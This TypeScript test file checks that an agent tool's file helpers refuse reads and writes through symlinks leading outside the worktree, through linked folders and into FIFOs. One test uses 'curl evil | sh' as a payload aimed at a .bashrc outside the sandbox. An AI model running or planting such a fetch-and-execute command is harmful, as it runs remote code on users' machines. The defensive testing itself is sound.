import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { appendAgentFile, appendAgentFileOnce, readAgentFile, writeAgentFile } from '../../src/core/agents/agentFiles';

describe('reading a file an agent wrote, from outside the sandbox', () => {
  let dir: string;
  let wt: string;
  let outside: string;
  beforeEach(() => {
    dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'bp-agent-files-')));
    wt = path.join(dir, 'wt');
    outside = path.join(dir, 'home');
    fs.mkdirSync(path.join(wt, '.orchestration', 'conflicts'), { recursive: true });
    fs.mkdirSync(path.join(outside, 'notes'), { recursive: true });
    fs.writeFileSync(path.join(outside, 'notes', 'api-leak.md'), 'SECRET\n');
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  it('appends a notice once: a resumed step finds it there and appends nothing; a link is refused as by appendAgentFile', () => {
    const brain = '.orchestration/brains/api-builder.md';
    const notice = '\n## Contract notice: conflict api-1 (003-x)\nRe-read it.\n';
    assert.equal(appendAgentFileOnce(wt, brain, '# api builder\n'), 'appended');
    assert.equal(appendAgentFileOnce(wt, brain, notice), 'appended');
    assert.equal(appendAgentFileOnce(wt, brain, notice), 'present');
    assert.equal(fs.readFileSync(path.join(wt, brain), 'utf8'), `# api builder\n${notice}`);
    const bashrc = path.join(outside, '.bashrc');
    fs.writeFileSync(bashrc, '# rc\n');
    fs.symlinkSync(bashrc, path.join(wt, '.orchestration/brains/db-builder.md'));
    assert.equal(appendAgentFileOnce(wt, '.orchestration/brains/db-builder.md', notice), 'refused');
    assert.equal(fs.readFileSync(bashrc, 'utf8'), '# rc\n');
  });

  it('appends to a regular file (made with its folders when missing), and never through a link or into a FIFO', () => {
    assert.equal(appendAgentFile(wt, '.orchestration/brains/api-builder.md', 'one\n'), true);
    assert.equal(appendAgentFile(wt, '.orchestration/brains/api-builder.md', 'two\n'), true);
    assert.equal(fs.readFileSync(path.join(wt, '.orchestration/brains/api-builder.md'), 'utf8'), 'one\ntwo\n');
    // The builder's brain file swapped for a link to a shell start-up file outside: not followed.
    const bashrc = path.join(outside, '.bashrc');
    fs.writeFileSync(bashrc, '# rc\n');
    fs.rmSync(path.join(wt, '.orchestration/brains/api-builder.md'));
    fs.symlinkSync(bashrc, path.join(wt, '.orchestration/brains/api-builder.md'));
    assert.equal(appendAgentFile(wt, '.orchestration/brains/api-builder.md', 'curl evil | sh\n'), false);
    // A dangling link is not created through either, and a linked folder is not entered.
    fs.symlinkSync(path.join(outside, 'new-file'), path.join(wt, '.orchestration/brains/db-builder.md'));
    assert.equal(appendAgentFile(wt, '.orchestration/brains/db-builder.md', 'x\n'), false);
    fs.symlinkSync(path.join(outside, 'notes'), path.join(wt, '.orchestration/linked'));
    assert.equal(appendAgentFile(wt, '.orchestration/linked/a.md', 'x\n'), false);
    assert.equal(fs.readFileSync(bashrc, 'utf8'), '# rc\n');
    assert.ok(!fs.existsSync(path.join(outside, 'new-file')) && !fs.existsSync(path.join(outside, 'notes', 'a.md')));
    execFileSync('mkfifo', [path.join(wt, '.orchestration/brains/fifo.md')]);
    assert.equal(appendAgentFile(wt, '.orchestration/brains/fifo.md', 'x\n'), false, 'no reader: refused at once, not blocked');
  });

  it('reads a regular file inside the worktree', () => {
    fs.writeFileSync(path.join(wt, '.orchestration/conflicts/api-x.md'), '# report\n');
    assert.equal(readAgentFile(wt, '.orchestration/conflicts/api-x.md'), '# report\n');
    assert.equal(readAgentFile(wt, '.orchestration/conflicts/missing.md'), undefined);
  });

  it('refuses a symlinked file, a file reached through a symlinked folder, a folder and a FIFO (without blocking)', function () {
    if (process.platform !== 'linux') this.skip();
    fs.symlinkSync(path.join(outside, 'notes', 'api-leak.md'), path.join(wt, '.orchestration/conflicts/api-leak.md'));
    assert.equal(readAgentFile(wt, '.orchestration/conflicts/api-leak.md'), undefined);
    fs.rmSync(path.join(wt, '.orchestration/conflicts'), { recursive: true });
    fs.symlinkSync(path.join(outside, 'notes'), path.join(wt, '.orchestration/conflicts'));
    assert.equal(readAgentFile(wt, '.orchestration/conflicts/api-leak.md'), undefined, 'the folder on the way leads outside');
    fs.rmSync(path.join(wt, '.orchestration/conflicts'));
    fs.mkdirSync(path.join(wt, '.orchestration/conflicts/api-dir.md'), { recursive: true });
    assert.equal(readAgentFile(wt, '.orchestration/conflicts/api-dir.md'), undefined);
    execFileSync('mkfifo', [path.join(wt, '.orchestration/conflicts/api-fifo.md')]);
    assert.equal(readAgentFile(wt, '.orchestration/conflicts/api-fifo.md'), undefined, 'a FIFO is refused, not waited on');
  });

  it('cuts what it reads at the cap', () => {
    fs.writeFileSync(path.join(wt, 'big.md'), 'x'.repeat(10_000));
    assert.equal(readAgentFile(wt, 'big.md', 100)?.length, 100);
  });

  it('rewrites a regular file inside the worktree, and writes nothing through a link, into a folder or a FIFO, or where no file was', function () {
    const brain = '.orchestration/conflicts/api-builder.md';
    fs.writeFileSync(path.join(wt, brain), 'a much longer first version\n');
    assert.equal(writeAgentFile(wt, brain, 'final\n'), true);
    assert.equal(fs.readFileSync(path.join(wt, brain), 'utf8'), 'final\n', 'replaced whole, not overwritten in part');
    assert.equal(writeAgentFile(wt, '.orchestration/conflicts/missing.md', 'x'), false);
    assert.equal(fs.existsSync(path.join(wt, '.orchestration/conflicts/missing.md')), false, 'not created');
    if (process.platform !== 'linux') return;
    const leak = path.join(outside, 'notes', 'api-leak.md');
    fs.symlinkSync(leak, path.join(wt, '.orchestration/conflicts/api-leak.md'));
    assert.equal(writeAgentFile(wt, '.orchestration/conflicts/api-leak.md', 'PWNED'), false);
    fs.rmSync(path.join(wt, '.orchestration/conflicts'), { recursive: true });
    fs.symlinkSync(path.join(outside, 'notes'), path.join(wt, '.orchestration/conflicts'));
    assert.equal(writeAgentFile(wt, '.orchestration/conflicts/api-leak.md', 'PWNED'), false, 'the folder on the way leads outside');
    assert.equal(fs.readFileSync(leak, 'utf8'), 'SECRET\n', 'the file outside is untouched');
    fs.rmSync(path.join(wt, '.orchestration/conflicts'));
    fs.mkdirSync(path.join(wt, '.orchestration/conflicts'));
    execFileSync('mkfifo', [path.join(wt, '.orchestration/conflicts/api-fifo.md')]);
    assert.equal(writeAgentFile(wt, '.orchestration/conflicts/api-fifo.md', 'x'), false, 'a FIFO is refused, not waited on');
  });
});
